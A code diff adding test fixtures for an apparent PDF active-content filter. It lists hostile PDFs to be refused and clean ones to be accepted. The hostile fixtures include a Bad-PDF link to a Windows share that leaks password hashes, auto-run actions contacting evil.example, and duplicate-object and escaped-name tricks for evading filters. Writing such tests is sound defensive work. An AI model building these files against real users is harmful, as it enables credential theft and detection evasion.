@@ -273,6 +273,128 @@ def named_script() -> bytes:
     return one_page(change)
 
 
+# A file on a Windows share: a viewer that opens it sends the user's name and password hash
+# to the server (the "Bad-PDF" attack); and an address outside.
+SHARE = "\\\\10.0.0.1\\share\\x.pdf"
+SHARE_WRITTEN = b"(%s)" % SHARE.replace("\\", "\\\\").encode()  # a literal string: \\ is \
+OUTSIDE = "https://evil.example/opened"
+
+
+def remote_go_to(file: str = SHARE) -> DictionaryObject:
+    return pdf_dict(
+        S=name("/GoToR"), F=TextStringObject(file), D=ArrayObject([NumberObject(0), name("/Fit")])
+    )
+
+
+def web_page(address: str = OUTSIDE) -> DictionaryObject:
+    return pdf_dict(Type=name("/Action"), S=name("/URI"), URI=TextStringObject(address))
+
+
+def on_open(action: DictionaryObject) -> bytes:
+    """The page's additional actions run `action` as soon as the page is shown."""
+
+    def change(writer: PdfWriter, page: DictionaryObject) -> None:
+        page[NameObject("/AA")] = pdf_dict(O=action)
+
+    return one_page(change)
+
+
+def media_annotation(subtype: str, **entries: PdfObject) -> bytes:
+    """An annotation of a multimedia `subtype`, with its data in a stream of that /Type."""
+
+    def change(writer: PdfWriter, page: DictionaryObject) -> None:
+        stream = DecodedStreamObject()
+        stream.set_data(b"\x00" * 64)
+        stream[NameObject("/Type")] = name(subtype)
+        annotation = pdf_dict(Subtype=name(subtype), **entries)
+        annotation[NameObject(subtype)] = writer._add_object(stream)
+        annotate(writer, page, annotation)
+
+    return one_page(change)
+
+
+def link_with_additional_actions() -> bytes:
+    """A link to a web page (harmless, once clicked) that also goes to the first page as soon
+    as the pointer enters it: the action is harmless, additional actions are not."""
+    first_page = pdf_dict(S=name("/GoTo"), D=ArrayObject([NumberObject(0), name("/Fit")]))
+    link = pdf_dict(Subtype=name("/Link"), A=web_page(), AA=pdf_dict(E=first_page))
+    return one_page(lambda w, p: annotate(w, p, link))
+
+
+def catalog_actions() -> bytes:
+    """The document's additional actions: a web page fetched once it is printed."""
+
+    def change(writer: PdfWriter, page: DictionaryObject) -> None:
+        writer._root_object[NameObject("/AA")] = pdf_dict(DP=web_page())
+
+    return one_page(change)
+
+
+def sub_page_navigation() -> bytes:
+    """Presentation steps: the viewer runs a step's action (/NA) after /Dur seconds."""
+
+    def change(writer: PdfWriter, page: DictionaryObject) -> None:
+        step = pdf_dict(Type=name("/NavNode"), NA=web_page(), Dur=NumberObject(1))
+        page[NameObject("/PresSteps")] = step
+
+    return one_page(change)
+
+
+def catalog_open_action_duplicate() -> bytes:
+    """The catalog defined twice: the cross-reference table points at a plain one, but a
+    viewer that repairs the file takes the last, which fetches a web page when opened."""
+    hostile = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (%s) >> >>"
+    hostile += b"\nendobj\n"
+    return before_xref(raw_pdf(raw_page()), hostile % OUTSIDE.encode())
+
+
+def raw_catalog(
+    open_action: bytes, objects: dict[int, bytes] | None = None, packed: Collection[int] = ()
+) -> bytes:
+    """A raw one-page file whose catalog has `open_action` as its /OpenAction, with more
+    `objects`, those in `packed` in an object stream."""
+    written = raw_page() | (objects or {})
+    written[1] = b"<< /Type /Catalog /Pages 2 0 R /OpenAction %s >>" % open_action
+    return raw_pdf(written, packed=packed)
+
+
+GO_TO_FIRST_PAGE = b"<< /S /GoTo /D [3 0 R /Fit] >>"
+
+
+def open_action_defined_twice() -> bytes:
+    """The catalog's /OpenAction refers to a /GoTo to the first page; a second definition of
+    that object, which a repairing viewer could take, opens a web page."""
+    second = b"4 0 obj\n<< /S /URI /URI (%s) >>\nendobj\n" % OUTSIDE.encode()
+    return before_xref(raw_catalog(b"4 0 R", {4: GO_TO_FIRST_PAGE}), second)
+
+
+def action_type_in_its_own_object() -> bytes:
+    """A link whose action's type is a reference to a name: /S 6 0 R, 6 being /GoToR."""
+    objects = raw_page(b"/Annots [4 0 R]")
+    objects[4] = b"<< /Type /Annot /Subtype /Link /Rect [72 700 272 720] /A 5 0 R >>"
+    objects[5] = b"<< /S 6 0 R /F %s /D [0 /Fit] >>" % SHARE_WRITTEN
+    objects[6] = b"/GoToR"
+    return raw_pdf(objects)
+
+
+def escaped_remote_go_to_in_object_stream() -> bytes:
+    """A link to a share, its action's type written /Go#54oR, packed in an object stream."""
+    objects = raw_page(b"/Annots [4 0 R]")
+    objects[4] = b"<< /Type /Annot /Subtype /Link /Rect [72 700 272 720] /A 5 0 R >>"
+    objects[5] = b"<< /S /Go#54oR /F %s /D [0 /Fit] >>" % SHARE_WRITTEN
+    return raw_pdf(objects, packed={4, 5})
+
+
+def next_loop() -> bytes:
+    """A link to a web page (harmless) whose /Next actions loop, one of them to a share."""
+    objects = raw_page(b"/Annots [4 0 R]")
+    objects[4] = b"<< /Type /Annot /Subtype /Link /Rect [72 700 272 720] /A 5 0 R >>"
+    objects[5] = b"<< /S /URI /URI (https://example.org/) /Next 6 0 R >>"
+    objects[6] = b"<< /S /GoTo /D [3 0 R /Fit] /Next [5 0 R 7 0 R] >>"
+    objects[7] = b"<< /S /GoToR /F %s /D [0 /Fit] /Next 5 0 R >>" % SHARE_WRITTEN
+    return raw_pdf(objects)
+
+
 # One PDF per construct, each refused as active content.
 HOSTILE: dict[str, Callable[[], bytes]] = {
     "page /AA script": lambda: one_page(page_script),
@@ -313,6 +435,46 @@ HOSTILE: dict[str, Callable[[], bytes]] = {
     "duplicate object definition": duplicate_definition,
     "orphan script object": orphan_script,
     "orphan object stream": orphan_object_stream,
+    # Actions that reach outside, or that run with no click: the tester's report.
+    "page /AA /GoToR to a share (Bad-PDF)": lambda: on_open(remote_go_to()),
+    "page /AA /URI": lambda: on_open(web_page()),
+    "page /AA /Rendition": lambda: on_open(pdf_dict(S=name("/Rendition"), OP=NumberObject(0))),
+    "page /AA /Named /Print": lambda: on_open(pdf_dict(S=name("/Named"), N=name("/Print"))),
+    "/Sound annotation": lambda: media_annotation("/Sound", Name=name("/Speaker")),
+    "/Movie annotation": lambda: media_annotation("/Movie"),
+    "/3D annotation": lambda: media_annotation("/3D"),
+    "link /GoToR to a share": lambda: link_doing(remote_go_to()),
+    "link /Thread of another file": lambda: link_doing(
+        pdf_dict(S=name("/Thread"), F=TextStringObject(SHARE), D=NumberObject(0))
+    ),
+    "link /Sound": lambda: link_doing(pdf_dict(S=name("/Sound"))),
+    "link /Movie": lambda: link_doing(pdf_dict(S=name("/Movie"), T=TextStringObject("clip"))),
+    "link /RichMediaExecute": lambda: link_doing(
+        pdf_dict(S=name("/RichMediaExecute"), CMD=pdf_dict(C=TextStringObject("play")))
+    ),
+    "link /AA, harmless action": link_with_additional_actions,
+    "form field /AA /URI": lambda: one_page(
+        lambda w, p: form_field(w, p, AA=pdf_dict(Fo=web_page()))
+    ),
+    "catalog /AA": catalog_actions,
+    "page /PresSteps": sub_page_navigation,
+    "/OpenAction in a duplicate catalog": catalog_open_action_duplicate,
+    "action type in its own object": action_type_in_its_own_object,
+    "escaped /GoToR in an object stream": escaped_remote_go_to_in_object_stream,
+    "/Next loop to a share": next_loop,
+    # What opens with the document: any action, whatever it does; a destination (the page to
+    # open at) passes, but not with an action inside it.
+    "catalog /OpenAction /URI": lambda: raw_catalog(b"<< /S /URI /URI (%s) >>" % OUTSIDE.encode()),
+    "catalog /OpenAction /GoTo, then /Next /URI": lambda: raw_catalog(
+        b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (%s) >> >>" % OUTSIDE.encode()
+    ),
+    "catalog /OpenAction, a reference to /URI": lambda: raw_catalog(
+        b"4 0 R", {4: b"<< /S /URI /URI (%s) >>" % OUTSIDE.encode()}
+    ),
+    "catalog /OpenAction to a /GoTo defined twice": open_action_defined_twice,
+    "catalog /OpenAction destination holding a script": lambda: raw_catalog(
+        b"[3 0 R /Fit << /S /JavaScript /JS (%s) >>]" % SCRIPT.encode()
+    ),
 }
 
 
@@ -339,6 +501,41 @@ def reference_cycle() -> bytes:
     return raw_pdf(objects, packed={5})
 
 
+def uri_link_as_word_processors_write_it() -> bytes:
+    """A link to a web page, its action in an object of its own (LibreOffice, Word)."""
+    objects = raw_page(b"/Annots [4 0 R]")
+    objects[4] = (
+        b"<< /Type /Annot /Subtype /Link /Border [0 0 0] /Rect [72 700 272 720] /A 5 0 R >>"
+    )
+    objects[5] = b"<< /Type /Action /S /URI /URI (https://www.sgg.gov.ma/) >>"
+    return raw_pdf(objects)
+
+
+def outline_to_a_web_page() -> bytes:
+    def change(writer: PdfWriter, page: DictionaryObject) -> None:
+        item = writer.add_outline_item(title="Texte de loi", page_number=0).get_object()
+        assert isinstance(item, DictionaryObject)
+        item[NameObject("/A")] = web_page("https://www.sgg.gov.ma/")
+
+    return one_page(change)
+
+
+def opening_at(writer: PdfWriter, page: DictionaryObject) -> None:
+    writer.open_destination = writer.pages[0]  # the catalog's /OpenAction [page /Fit]
+
+
+def tagged_document() -> bytes:
+    """A tagged PDF (PDF/UA-1) from a real producer, WeasyPrint, as the portal's guides are:
+    a structure tree, bookmarks, a link to a web page and one within the document."""
+    from weasyprint import HTML  # slow to import: only this file needs it
+
+    html = """<html lang="fr"><head><title>Statuts</title></head><body><h1>Statuts</h1>
+    <p>Vu le <a href="https://www.sgg.gov.ma/">dahir</a> et l'<a href="#art2">article 2</a>.</p>
+    <h2 id="art2">Article 2</h2><p>Le siège de l'association est fixé à Lyon.</p></body></html>"""
+    document: bytes = HTML(string=html).write_pdf(pdf_variant="pdf/ua-1")
+    return document
+
+
 # Files an association sends every day: each must pass.
 CLEAN: dict[str, Callable[[], bytes]] = {
     "plain text": one_page,
@@ -347,6 +544,23 @@ CLEAN: dict[str, Callable[[], bytes]] = {
     "AcroForm text field, no action": lambda: one_page(form_field),
     "reference cycle, object stream": reference_cycle,
     "names with #xx escapes, harmless": lambda: raw_pdf(raw_page(b"/Rot#61te 0")),
+    "URI link, its action in its own object": uri_link_as_word_processors_write_it,
+    "outline item to a web page": outline_to_a_web_page,
+    "link /Named /NextPage": lambda: link_doing(pdf_dict(S=name("/Named"), N=name("/NextPage"))),
+    "tagged PDF/UA-1 from WeasyPrint": tagged_document,
+    "opens at the first page, as LibreOffice writes it": lambda: raw_catalog(
+        b"[3 0 R /XYZ null null 0]"
+    ),
+    "opens at the first page, as pypdf writes it": lambda: one_page(opening_at),
+    "opens at the first page by a /GoTo action": lambda: raw_catalog(
+        b"<< /Type /Action /S /GoTo /D [3 0 R /Fit] >>"
+    ),
+    "opens at the first page, as LaTeX writes it": lambda: raw_catalog(
+        b"4 0 R", {4: GO_TO_FIRST_PAGE}
+    ),
+    "opens at the first page, as LaTeX writes it, compressed": lambda: raw_catalog(
+        b"4 0 R", {4: GO_TO_FIRST_PAGE}, packed={1, 4}
+    ),
 }
 
 
